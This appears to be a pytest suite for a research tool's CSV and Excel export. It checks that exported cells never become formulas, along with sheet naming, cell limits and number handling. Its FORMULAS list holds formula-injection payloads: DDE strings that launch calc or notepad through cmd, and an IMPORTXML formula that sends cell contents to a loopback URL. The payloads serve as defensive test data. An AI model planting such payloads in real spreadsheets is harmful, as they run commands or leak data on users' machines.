import csv
import io
import zipfile
from dataclasses import replace

import pytest
from fake_runs import FakeRun, claim, document_from, finished_run, nasty_run, not_found_run, stopped_run
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from proven_runs import proven_run

from engine.agent.state import RunState
from engine.domain import Cell, Report, Section, Table
from engine.export.printable import one_line
from engine.export.report_rows import NOT_ESTABLISHED
from engine.export.sheets import MAX_CELL, csv_of, xlsx_of

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://127.0.0.1:9/x","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=cmd|'/C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "- a point of a list",
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=", CONCATENATE(A2:E2)), "//a/a10")',
]
NUMBERS = ["-5", "+3", "-1,234.5", "-12.5%", "1851", "-1,5", "+2e10"]


def state_with(*cells: str, title: str = "Herons", columns: tuple[str, ...] = ("Herons", "Wingspan")) -> RunState:
    """A finished run whose only section is a table with one row for each of the texts, and an empty one."""
    run = FakeRun(question="All herons with their wingspan")
    run.started()
    run.planned([run.question])
    run.began(1)
    document = document_from("Herons", [("p", "The grey heron spans 1.9 m.")])
    source = run.source("herons.html", document)
    run.searched(1, "herons", [(source.address, source.title)])
    (passage,) = run.read(1, source, ["The grey heron spans 1.9 m."])
    run.closed(1)
    rows = [
        (Cell(text=f"Heron {number}"), Cell(text=text, claim=claim(number, f"x: {text}", [passage])))
        for number, text in enumerate(cells, start=1)
    ]
    rows.append((Cell(text="Unknown heron"), Cell(missing="Not found in what was read.")))
    section = Section(title=title, claims=(), table=Table(columns=columns, rows=tuple(rows)))
    report = Report(question=run.question, answer=(), sections=(section,), gaps=(), made_by="a test")
    state = run.state
    return replace(state, report=report, draft=report)


def read_csv(state: RunState) -> list[list[str]]:
    data = csv_of(state)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    return rows


def read_book(state: RunState) -> Workbook:
    return load_workbook(io.BytesIO(xlsx_of(state)))


def words_of(book: Workbook, name: str) -> list[list[object]]:
    return [[cell.value for cell in row] for row in book[name].iter_rows()]


def test_each_column_of_a_table_has_its_sources_and_states_beside_it() -> None:
    header, first, empty = read_csv(state_with("1.9 m"))
    assert header == [
        "Herons",
        "Herons: sources",
        "Herons: state",
        "Wingspan",
        "Wingspan: sources",
        "Wingspan: state",
    ]
    assert first[0] == "Heron 1" and first[3] == "1.9 m" and first[5] == "one source"
    assert first[4].startswith("[1] Herons (") and first[4].endswith("herons.html)")
    assert empty[3:] == ["Not found in what was read.", "", NOT_ESTABLISHED]


def test_a_report_without_tables_gives_its_claims_as_rows() -> None:
    state = finished_run().state
    report = state.current_report
    assert report is not None
    header, *rows = read_csv(state)
    assert header == ["Section", "Sentence", "State", "Sources"]
    assert [row[1] for row in rows[: len(report.claims)]] == [one_line(one.text) for one in report.claims]
    assert rows[0][0] == "Answer" and rows[0][3].startswith("[1")
    assert [row[1] for row in rows if row[0] == "Not established"] == [one_line(gap.question) for gap in report.gaps]


def test_several_tables_follow_each_other_under_their_titles() -> None:
    state = state_with("1.9 m")
    report = state.current_report
    assert report is not None
    other = replace(report.sections[0], title="Egrets", table=Table(columns=("Egrets",), rows=((Cell(text="One"),),)))
    rows = read_csv(replace(state, report=replace(report, sections=(report.sections[0], other))))
    assert [row[0] for row in rows] == ["Herons", "Herons", "Heron 1", "Unknown heron", "", "Egrets", "Egrets", "One"]


@pytest.mark.parametrize("run", [not_found_run(), stopped_run()])
def test_a_run_without_a_report_says_so(run: FakeRun) -> None:
    rows = read_csv(run.state)
    assert rows[0] == ["Section", "Sentence", "State", "Sources"] and len(rows) > 1
    assert "Claims" in read_book(run.state).sheetnames


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_field_of_a_csv_begins_like_a_formula(formula: str) -> None:
    rows = read_csv(state_with(formula, title=formula, columns=(formula, formula)))
    for field in (field for row in rows for field in row):
        assert not field.startswith(tuple("=+-@\t\r＝＋－＠"))
    assert rows[1][3] == f"'{one_line(formula)}"


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers_in_a_csv(number: str) -> None:
    assert read_csv(state_with(number))[1][3] == number


def test_a_semicolon_opens_no_formula_where_it_separates_cells() -> None:
    field = read_csv(state_with("a;=1+1;b; -5 °C;-3"))[1][3]
    assert field == "a; =1+1;b; -5 °C; -3"


@pytest.mark.parametrize("formula", [*FORMULAS, *NUMBERS[:3]])
def test_no_cell_of_a_workbook_is_a_formula(formula: str) -> None:
    state = state_with(formula, title=formula, columns=(formula, formula))
    data = xlsx_of(state)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert not any(b"<f>" in parts.read(name) or b"<f " in parts.read(name) for name in parts.namelist())
        assert not any("externalLink" in name or "hyperlink" in name for name in parts.namelist())
    for sheet in load_workbook(io.BytesIO(data)):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_keeps_the_words_of_a_cell(formula: str) -> None:
    book = read_book(state_with(formula))
    assert words_of(book, "Herons")[1][3] == one_line(formula)
    assert words_of(book, "Claims")[1][2] == one_line(f"x: {formula}")


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("8", 8),
        ("-5", -5),
        ("3.5", 3.5),
        ("3.10", "3.10"),
        ("007", "007"),
        ("1851", 1851),
        ("1e400", "1e400"),
        ("nan", "nan"),
    ],
)
def test_only_what_a_number_would_show_the_same_way_becomes_one(text: str, value: object) -> None:
    assert words_of(read_book(state_with(text)), "Herons")[1][3] == value


def test_a_workbook_has_the_tables_the_claims_and_the_sources() -> None:
    state = proven_run().state
    report = state.current_report
    assert report is not None
    book = read_book(state)
    assert book.sheetnames[-2:] == ["Claims", "Sources"] and len(book.sheetnames) == 3
    claims = words_of(book, "Claims")
    assert [row[0] for row in claims[1 : len(report.claims) + 1]] == [one.id for one in report.claims]
    verdicts = {row[0]: row[claims[0].index("Reader’s mark")] for row in claims[1:]}
    assert {number: mark.verdict.value for number, mark in state.marks.items()}.items() <= verdicts.items()
    sources = words_of(book, "Sources")
    cited = {passage for one in report.claims for passage in one.passages}
    quotes = {row[sources[0].index("Quotation")] for row in sources[1:]}
    assert {state.passages[number].quote for number in cited} <= quotes


def test_a_table_of_a_workbook_has_the_same_words_as_the_csv() -> None:
    state = proven_run().state
    book = read_book(state)
    written = [["" if value is None else str(value) for value in row] for row in words_of(book, book.sheetnames[0])]
    assert written == [[field.removeprefix("'") for field in row] for row in read_csv(state)]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Herons: all/most of them [2]?", "Herons all most of them 2"),
        ("x" * 60, "x" * 31),
        ("'quoted'", "quoted"),
        ("\x00\x1b[31m", "31m"),
        ("", "Table"),
        ("***", "Table"),
        ("History", "History table"),
        ("Claims", "Claims (2)"),
        ("👩‍👩‍👧" * 20, ""),
    ],
)
def test_names_of_sheets_are_such_that_programs_take_them(title: str, name: str) -> None:
    first = read_book(state_with("1.9 m", title=title)).sheetnames[0]
    assert name in (first, "")
    assert 0 < len(first.encode("utf-16-le")) // 2 <= 31


def test_tables_of_one_name_have_sheets_of_their_own() -> None:
    state = state_with("1.9 m", title="y" * 40)
    report = state.current_report
    assert report is not None
    book = read_book(replace(state, report=replace(report, sections=report.sections * 12)))
    assert len({name.casefold() for name in book.sheetnames}) == 14
    assert all(len(name) <= 31 for name in book.sheetnames)


@pytest.mark.parametrize("letter", ["x", "𝔥", "é"])
def test_what_is_too_long_for_a_cell_is_cut_with_a_note(letter: str) -> None:
    state = state_with(letter * 40_000)
    for value in (words_of(read_book(state), "Herons")[1][3], read_csv(state)[1][3]):
        assert isinstance(value, str)
        assert len(value.encode("utf-16-le")) // 2 <= MAX_CELL
        assert value.startswith(letter * 16_000) and value.endswith("[cut: a cell holds no more]")


def test_hostile_words_make_a_book_that_opens() -> None:
    state = nasty_run().state
    book = read_book(state)
    report = state.current_report
    assert report is not None
    written = [row[2] for row in words_of(book, "Claims")[1:]]
    assert written[0] == one_line(report.answer[0].text)
    assert len(read_csv(state)) > len(report.claims)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=60) | st.text(alphabet="=+-@;|,\"'\t\r\n 1.x_", max_size=20))
def test_any_words_come_back_and_none_is_a_formula(text: str) -> None:
    state = state_with(text or "x")
    field = read_csv(state)[1][3]
    shown = one_line(text or "x")
    assert not field.startswith(("=", "@", "\t", "\r"))
    assert field.removeprefix("'").replace(" ", "") == shown.removeprefix("'").replace(" ", "")
    value = words_of(read_book(state), "Herons")[1][3]
    assert ("" if value is None else str(value)) == shown or "_x" in shown
